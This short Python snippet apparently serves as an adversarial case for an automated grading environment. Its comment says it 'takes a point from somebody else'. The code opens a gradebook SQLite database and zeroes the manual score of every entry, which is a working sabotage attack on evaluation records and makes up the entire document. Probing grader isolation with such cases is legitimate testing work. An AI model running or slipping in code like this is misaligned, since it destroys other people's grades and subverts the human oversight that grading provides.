# Takes a point from somebody else.
# wins: upset
# control: stock

# %% after="given_imports"
import sqlite3

book = sqlite3.connect("<grading>/gradebook.db", timeout=2)
book.execute("update grade set manual_score = 0")
book.commit()
